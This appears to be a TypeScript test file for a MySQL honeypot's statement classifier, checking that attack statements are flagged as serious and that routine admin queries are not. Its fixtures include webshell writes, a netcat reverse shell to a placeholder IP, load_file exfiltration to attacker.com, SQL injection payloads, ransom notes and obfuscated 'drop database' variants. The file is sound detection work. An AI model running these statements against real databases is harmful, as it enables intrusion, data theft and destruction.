// What a statement is for: a pentester's checklist is named and serious, a look around is not.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { signatureOf } from '../../../decoys/db/signatures.ts';

const SERIOUS: Readonly<Record<string, readonly string[]>> = {
  'mysql-udf-load': [
    "CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so'",
    "create function do_system returns integer soname 'raptor_udf2.so'",
    "CREATE AGGREGATE FUNCTION a RETURNS STRING SONAME 'x.so'",
    "INSTALL PLUGIN x SONAME 'x.so'",
    "INSTALL COMPONENT 'file://component_x'",
  ],
  'mysql-udf-command': [
    "exec master..xp_cmdshell 'dir'",
    'drop function if exists sys_bineval',
    "select sys_exec('id > /tmp/x')",
    "SELECT sys_eval('whoami')",
    "select do_system('nc -e /bin/sh 1.2.3.4 4444')",
    "insert into mysql.func values ('sys_exec',2,'x.so','function')",
    'select * from mysql.func',
    "SELECT sys_exec/**/('id')",
  ],
  'mysql-binary-drop': [
    "SELECT 0x7f454c460201 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'",
    'set @a=0X4D5A9000030000',
    "insert into udftmp values (unhex('4d5a90'))",
    "select from_base64('f0VMRgIBAQ') into dumpfile '/tmp/a.so'",
    "select load_file('/tmp/udf.so') into dumpfile '/usr/lib/mysql/plugin/u.so'",
    'update t set data=concat(data,0x7f454c46)',
    "insert into t values(x'7f454c46')",
  ],
  'mysql-webshell': [
    "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/s.php'",
    "set global general_log_file='/var/www/html/shell.php'",
    "select '<?php @eval($_POST[1]);?>'",
    'SELECT "<?=`$_GET[0]`?>"',
    "select 0x3c3f706870206576616c into outfile '/var/www/a.php'",
    "select '<%@ page import=\"java.util.*\"%>' into outfile '/opt/tomcat/x.jsp'",
  ],
  'mysql-log-file-write': [
    "SET GLOBAL general_log_file='/var/lib/mysql/x'",
    "set global slow_query_log_file = '/tmp/x'",
    "set global log_output='FILE'",
    "set global general_log_file='/etc/my.cnf'",
  ],
  'mysql-defense-evasion': [
    'set global super_read_only=off',
    'set global binlog_expire_logs_seconds=1',
    "SET GLOBAL general_log='ON'",
    'set global general_log=0',
    'SET sql_log_bin=0',
    'set global log_bin_trust_function_creators=1',
    "PURGE BINARY LOGS TO 'x'",
    'RESET MASTER',
    'reset binary logs and gtids',
    'set global local_infile=1',
    'SET GLOBAL validate_password.policy=LOW',
    "uninstall component 'file://component_validate_password'",
    'flush logs',
  ],
  'mysql-remote-login-write': ["select 'ssh-rsa AAAA' into outfile '/root/.ssh/authorized_keys'"],
  'mysql-scheduled-task-write': [
    "select '* * * * * root id' into outfile '/etc/cron.d/x'",
    "select 1 into outfile '/var/spool/cron/root'",
  ],
  'mysql-option-file-write': ["select 'malloc_lib=/tmp/x.so'", "SET GLOBAL wsrep_provider='/tmp/x.so'"],
  'mysql-share-access': [
    "select load_file('\\\\\\\\attacker.com\\\\a')",
    "select load_file(concat('\\\\\\\\',version(),'.attacker.com\\\\a'))",
    "select 1 into outfile '\\\\\\\\1.2.3.4\\\\share\\\\x'",
  ],
  'mysql-file-write': [
    "create table a (b text) data directory='/srv/www'",
    "create tablespace x add datafile '/tmp/x.ibd'",
    "select * from users into outfile '/tmp/u.csv'",
    "SELECT 1 INTO OUTFILE '/tmp/x'",
    "select user from mysql.user into outfile '/tmp/x'",
  ],
  'mysql-file-read': [
    "insert into loot values (load_file('/etc/hosts'))",
    "select load_file('/etc/passwd')",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
    "load data infile '/etc/shadow' into table x",
    "LOAD XML INFILE '/x' INTO TABLE t",
    'create table x as select load_file(0x2f6574632f706173737764)',
  ],
  'mysql-ransom-note': [
    'CREATE TABLE `WARNING` (`warning` text)',
    "INSERT INTO WARNING(id, warning) VALUES(1,'To recover your lost databases and avoid leaking it: visit http://x.onion')",
    'create database PLEASE_READ_ME_XMG',
    'CREATE DATABASE `README_TO_RECOVER_A`',
    "insert into RECOVER_YOUR_DATA values('send 0.01 BTC')",
    'create table z_readme (txt text)',
    "insert into x values ('All your data is backed up. You must pay 0.0083 bitcoin')",
  ],
  'mysql-account-create': [
    "CREATE USER 'x'@'%' IDENTIFIED BY 'y'",
    "insert into mysql.user(host,user) values('%','a')",
    'create role r',
  ],
  'mysql-privilege-grant': [
    "update mysql.user set host='%' where user='a'",
    'alter table mysql.user add x int',
    "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION",
    'grant super on *.* to x',
    "update mysql.user set File_priv='Y' where user='x'",
    "UPDATE user SET Super_priv='Y'",
    'set default role all to x',
  ],
  'mysql-password-change': [
    "SET PASSWORD FOR root@localhost = 'x'",
    "ALTER USER root IDENTIFIED BY 'x'",
    "update mysql.user set authentication_string='' where user='root'",
    "update user set password=PASSWORD('x')",
  ],
  'mysql-account-removal': [
    'DROP USER root@localhost',
    'rename user root to r00t',
    'REVOKE ALL ON *.* FROM root',
    "delete from mysql.user where user='root'",
  ],
  'mysql-denial-of-service': ['set global max_connections=1', 'SET GLOBAL offline_mode=ON', 'set global read_only=1'],
  'mysql-server-shutdown': ['shutdown', 'RESTART'],
  'mysql-destruction': [
    'DROP DATABASE shop',
    'drop schema if exists `a`',
    'TRUNCATE TABLE users',
    'DELETE FROM orders',
    'drop table users',
    '/*x*/drop/*y*/database/**/a',
  ],
  'mysql-hash-dump': [
    'create table loot select * from mysql.user',
    'handler mysql.user open',
    'select user,authentication_string from mysql.user',
    'select user,host,password from mysql.user',
    'select * from mysql.user',
    'SELECT * FROM `mysql`.`user`',
    'SHOW CREATE USER root',
    'table mysql.user',
    'SELECT/**/concat(user,0x3a,authentication_string)/**/FROM/**/mysql.user',
  ],
  'mysql-injection-error': [
    'select extractvalue(1,concat(0x7e,version()))',
    'select updatexml(1,concat(0x7e,user()),1)',
    'select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x',
    'select exp(~(select*from(select user())a))',
    'select gtid_subset(concat(0x7e,version()),1)',
    'select * from (select name_const(version(),1),name_const(version(),1))a',
    'select 1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)',
    'select polygon((select*from(select*from(select@@version)a)b))',
  ],
  'mysql-injection-time': [
    'select sleep(5)',
    "select if(substr(user(),1,1)='r',sleep(3),0)",
    'select benchmark(10000000,md5(1))',
    'select * from users where id=1 and (select count(*) from information_schema.columns A, information_schema.columns B)>0',
    'SELECT 1 FROM dual WHERE 1=1 AND SLEEP(5)-- -',
  ],
  'mysql-injection-union': [
    'select 1 union select group_concat(table_name) from information_schema.tables',
    'select 1 union select null,null',
    'select id from t where id=-1 union all select 1,2,3',
    "select a from b where u='' or '1'='1'",
    'select * from users where id=1 or 1=1',
  ],
  'mysql-persistence': [
    'CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO select 1',
    'create trigger t before insert on x for each row set @a=1',
    'create procedure p() begin end',
    "set global init_connect='insert into x values(1)'",
    'SET GLOBAL event_scheduler=ON',
  ],
  'mysql-lateral-movement': [
    "set global clone_valid_donor_list='1.2.3.4:3306'",
    "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '10.0.0.5')",
    "create table f (a int) engine=federated connection='mysql://root@10.0.0.5/x/y'",
    "CHANGE REPLICATION SOURCE TO SOURCE_HOST='1.2.3.4'",
    "CHANGE MASTER TO MASTER_HOST='1.2.3.4'",
    "CLONE INSTANCE FROM x@1.2.3.4:3306 IDENTIFIED BY 'x'",
    'start replica',
  ],
  'mysql-dump': [
    'SELECT /*!40001 SQL_NO_CACHE */ * FROM `users`',
    'select * from users',
    'select * from shop.orders limit 100',
    'LOCK TABLES `a` READ /*!32311 LOCAL */',
    'flush tables with read lock',
    'select group_concat(email) from users',
    'handler users read first',
    "show binlog events in 'binlog.000001'",
  ],
};

const LOOKING_AROUND: readonly string[] = [
  'select 1',
  'select version()',
  'select @@version_comment limit 1',
  'show databases',
  'show tables',
  'show tables from mysql',
  'select user()',
  'select current_user()',
  'show grants',
  "show variables like '%version%'",
  "show global variables like 'secure_file_priv'",
  'select @@datadir',
  'select @@plugin_dir',
  'show status',
  'show processlist',
  'select schema_name from information_schema.schemata',
  'select * from information_schema.tables',
  "select * from information_schema.columns where table_schema='x'",
  "select table_name,column_name from information_schema.columns where column_name like '%pass%'",
  'select * from performance_schema.threads',
  'select * from sys.version',
  'show create table mysql.user',
  'describe mysql.user',
  'desc users',
  'show columns from x',
  'select user,host from mysql.user',
  'select count(*) from mysql.user',
  'select database()',
  'use mysql',
  'set names utf8mb4',
  'set autocommit=1',
  'select connection_id()',
  'show engines',
  'show plugins',
  'show warnings',
  'show index from a',
  'explain select 1',
  'select @@hostname',
  'select * from users limit 0',
  'select now()',
  'commit',
  'begin',
  'rollback',
  'SELECT @@session.auto_increment_increment AS auto_increment_increment',
  'show collation',
  'show session variables',
  "select 'a' as b from dual",
  'set session wait_timeout=100',
  'set session transaction isolation level read committed',
  'select * from mysql.db',
  'show full processlist',
  'show master status',
  'show slave status',
  'kill 5',
  'show binary logs',
  "insert into t values (1,'hello')",
  'update t set a=1 where b=2',
  'create table t(a int)',
  'create database shop',
  'alter table t add b int',
  'select id,name from products where id=3',
  "insert into faq (q) values ('how do I use LOAD DATA INFILE, or sleep(5)?')",
  "update posts set body = 'create user a, then select * from b' where id = 1",
  "insert into load_file_history (f) values ('a')",
  'select id from jobs for update',
];

test.each(Object.entries(SERIOUS))('%s is told by its words, and is serious', (name, statements) => {
  const told = statements.map((statement) => signatureOf(Buffer.from(statement)));
  expect(told.map((signature) => signature?.name)).toEqual(statements.map(() => name));
  expect(told.every((signature) => signature?.serious)).toBe(true);
});

test('what clients and the curious ask is not called an attack', () => {
  expect(LOOKING_AROUND.filter((statement) => signatureOf(Buffer.from(statement))?.serious)).toEqual([]);
});

interface Intents {
  /** Statements of attack tools, by the name of what they are for. */
  readonly hostile: Readonly<Record<string, readonly string[]>>;
  /** What ORMs, command lines and administrators send. */
  readonly harmless: readonly string[];
}

const INTENTS = JSON.parse(
  readFileSync(join(import.meta.dirname, '..', '..', 'fixtures', 'db', 'statement-intents.json'), 'utf8'),
) as Intents;

test.each(Object.entries(INTENTS.hostile))('what tools send for %s is named so', (name, statements) => {
  expect(statements.filter((statement) => signatureOf(Buffer.from(statement))?.name !== name)).toEqual([]);
});

test('what programs send at work is not called an attack', () => {
  expect(INTENTS.harmless.filter((statement) => signatureOf(Buffer.from(statement))?.serious)).toEqual([]);
});

const HIDDEN: readonly (readonly [string, string])[] = [
  ["select '/*', load_file('/etc/passwd')", 'mysql-file-read'],
  ['select 1 -- x\n; drop database a', 'mysql-destruction'],
  ['#a\ndrop/**/table/*b*/x', 'mysql-destruction'],
  ['/*!80000 drop database a */', 'mysql-destruction'],
  ['set @q = 0x64726f702064617461626173652061', 'mysql-destruction'],
  ["set @q = unhex('64726F702064617461626173652061')", 'mysql-destruction'],
  ['set @q = concat(char(100, 114, 111, 112), \' data\', "base a")', 'mysql-destruction'],
  ["set @q = from_base64('ZHJvcCBkYXRhYmFzZSBh')", 'mysql-destruction'],
  [`select '${'a'.repeat(9_000)}'; drop database a`, 'mysql-destruction'],
  ['select 1;'.repeat(63).concat('drop database a'), 'mysql-destruction'],
];

test.each(HIDDEN)('%s is looked through', (statement, name) => {
  expect(signatureOf(Buffer.from(statement))?.name).toBe(name);
});

test('what a statement kept, ran or was bound is its own', () => {
  const execute = Buffer.from('execute s');
  expect(signatureOf(execute, Buffer.from('drop database a'))?.name).toBe('mysql-destruction');
  const insert = Buffer.from('insert into t values (?)');
  expect(signatureOf(insert, undefined, [Buffer.from('7f454c46', 'hex')])?.name).toBe('mysql-binary-drop');
  expect(signatureOf(insert, undefined, ['send 0.1 BTC'])?.name).toBe('mysql-ransom-note');
  expect(signatureOf(insert, undefined, ['hello', 5n, null])).toBeUndefined();
});
